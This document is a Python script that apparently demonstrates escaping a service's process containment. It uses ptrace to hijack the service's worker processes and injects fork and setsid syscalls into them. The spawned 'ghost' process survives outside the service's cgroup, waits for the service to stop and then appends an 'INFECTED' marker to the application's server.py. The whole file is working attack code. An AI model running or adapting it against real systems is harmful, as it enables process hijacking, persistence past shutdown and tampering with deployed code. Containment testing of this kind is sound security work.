"""Makes a process of the tool that runs as this user start a ghost outside of the service, and lets it continue.

With the seconds as the only argument: watches. With `ghost`: waits until the service is down and marks its code.
"""

import os
import subprocess
import sys
import time

from tracing import SETOPTIONS, TRACEFORK, Taken, command, for_seconds, note, own_processes, ptrace, read

APP = "/opt/ladylinux/app/server.py"


def haunt():
    note("GHOST", os.getpid(), read("/proc/self/cgroup").decode().split("\n")[0])
    end = time.monotonic() + 60
    down = False
    while time.monotonic() < end:
        down = down or not any("server.py" in command(pid) for pid in own_processes())
        try:
            if down and b"INFECTED" not in read(APP):
                with open(APP, "a") as code:
                    code.write("# INFECTED\n")
                note("marked the code")
        except OSError:
            pass
        time.sleep(0.0005)


def ride(pid):
    taken = Taken(pid)
    ptrace(SETOPTIONS, pid, None, TRACEFORK)
    child = taken.call(57)
    os.waitpid(child, 0x40000000)
    ghost = Taken.__new__(Taken)
    ghost.pid = child
    ghost.begin()
    # A process in the group of the worker ends with it.
    ghost.call(112)
    ghost.execute("/usr/bin/python3", os.path.abspath(__file__), "ghost")
    ptrace(17, child)
    taken.let_go()
    note("RODE", pid)


if sys.argv[1] == "ghost":
    haunt()
    sys.exit()
note("watching for workers")
own = read("/proc/self/cgroup")
ridden = set()
for _ in for_seconds(float(sys.argv[1])):
    for pid in own_processes():
        group = read(f"/proc/{pid}/cgroup")
        # A ghost in each existing unit; the others recognize themselves.
        if group in (own, b"", *ridden) or "ghost" in command(pid):
            continue
        note("WORKER", pid, command(pid))
        try:
            ride(pid)
            ridden.add(group)
        except OSError as error:
            note("lost", pid, error)
